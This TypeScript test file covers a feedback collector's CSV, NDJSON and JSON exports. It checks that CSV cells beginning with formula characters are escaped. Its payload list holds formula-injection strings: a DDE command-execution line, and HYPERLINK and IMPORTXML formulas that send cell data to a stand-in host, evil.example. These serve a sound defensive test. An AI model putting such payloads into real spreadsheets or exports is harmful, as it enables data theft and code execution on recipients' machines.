import type { OhlasResponse } from '@ohlas/protocol';
import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, test } from 'vitest';
import { type Collector, createCollector } from '../collector.js';
import { comment, email, id, response, stars } from '../response.contract.js';
import { memoryStore } from '../stores/memory.js';

let collector: Collector;
beforeEach(() => {
  collector = createCollector({ store: memoryStore(), adminToken: 'token' });
});

async function send(change: Partial<OhlasResponse>): Promise<void> {
  const answer = await collector.fetch(
    new Request('https://answers.example/v1/responses', {
      method: 'POST',
      body: JSON.stringify(response(change)),
      headers: { 'Content-Type': 'application/json' },
    }),
  );
  expect(answer.status).toBe(201);
}
const get = (accept: string, query = '') =>
  collector.fetch(
    new Request(`https://answers.example/v1/responses${query}`, {
      headers: { Authorization: 'Bearer token', Accept: accept },
    }),
  );
type Row = Record<string, string>;
const rowsOf = (csv: string) => parse(csv, { columns: true, bom: true }) as Row[];

/** Twenty ways to begin, ten ways to go on. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  +',
  '\u00a0=',
  '\ufeff=',
  '\u3000@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '\r',
  '\n',
  '=\t',
];
const RESTS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"more")',
  'SUM(1,2),"quoted"',
  'IMPORTXML("https://evil.example")',
  '12 people',
  '"',
  'x\r\n=2',
  ',=3',
  'Ω 😀',
];
const FORMULAS = STARTS.flatMap((start) => RESTS.map((rest) => start + rest));

describe('CSV', () => {
  test('hands 200 formulas to a parser as text', async () => {
    expect(new Set(FORMULAS).size).toBe(200);
    // Each in a place of its own: words, a name, a page, the words of the question.
    for (const [n, formula] of FORMULAS.entries())
      await send({
        id: id(n),
        answers: [{ ...comment(formula), label: formula }],
        subject: { type: 'product', id: formula, name: formula },
        page: { url: formula },
        order: { id: formula },
      });
    const rows = rowsOf(await (await get('text/csv')).text()).reverse();
    expect(rows).toHaveLength(200);
    for (const [n, formula] of FORMULAS.entries())
      for (const column of ['text', 'label', 'subject_id', 'subject_name', 'page', 'order'])
        expect(rows[n]?.[column], column).toBe(`'${formula}`);
  });

  test.each(['-1', '+420777123456', '-1.5', '-1,5', '3', 'a=b', 'mailto:x@y.cz', '', "'quoted'"])(
    'leaves "%s" as it is',
    async (text) => {
      await send({ answers: [comment(text)] });
      expect(rowsOf(await (await get('text/csv')).text())[0]?.text).toBe(text);
    },
  );

  test('has a row for every answer, with what is known of the response', async () => {
    await send({
      case: 'x',
      promisedBy: '2026-11-23T15:00:00Z',
      answers: [
        stars(2),
        {
          question: 'causes',
          kind: 'choices',
          label: 'What went wrong?',
          standard: true,
          shape: 'choices',
          values: ['damaged', 'other'],
          text: 'scratched',
        },
        email('jana@example.com'),
      ],
    });
    const answer = await get('text/csv');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const bytes = new Uint8Array(await answer.clone().arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = rowsOf(await answer.text());
    expect(rows.map(({ question }) => question)).toEqual(['overall', 'causes', 'reply.email']);
    expect(rows[0]).toMatchObject({
      id: id(1),
      card: 'purchase',
      audience: 'buyer',
      verified: 'false',
      case: '0000-0001',
      case_status: 'open',
      due_at: '2026-11-23T15:00:00.000Z',
      measure: 'order-satisfaction',
      value: '2',
      max: '5',
    });
    expect(rows[1]).toMatchObject({ choices: 'damaged other', text: 'scratched', value: '' });
  });

  test('has its head even when there is nothing', async () => {
    const text = await (await get('text/csv')).text();
    expect(text).toMatch(/^id,revision,.*\r\n$/);
    expect(rowsOf(text)).toEqual([]);
  });
});

describe('NDJSON', () => {
  test('is one response a line, everything that fits', async () => {
    for (let n = 0; n < 450; n += 1) await send({ id: id(n), locale: n % 3 ? 'cs' : 'en' });
    const text = await (await get('application/x-ndjson', '?locale=cs')).text();
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(300);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ id: id(449), verified: false });
  });

  test('is written bit by bit, and stops when nobody reads on', async () => {
    for (let n = 0; n < 450; n += 1) await send({ id: id(n) });
    const reader = (await get('application/x-ndjson')).body?.getReader();
    const first = await reader?.read();
    expect(new TextDecoder().decode(first?.value).trimEnd().split('\n')).toHaveLength(200);
    await reader?.cancel();
  });
});

test.each(['?limit=5', '?cursor=3', '?limit=5&cursor=3'])(
  '%s is refused, a stream has no pages',
  async (query) => {
    expect((await get('text/csv', query)).status).toBe(400);
  },
);

test.each(['application/json', '*/*', 'text/html', ''])('"%s" gets pages of JSON', async (accept) => {
  expect((await get(accept)).headers.get('content-type')).toBe('application/json');
});
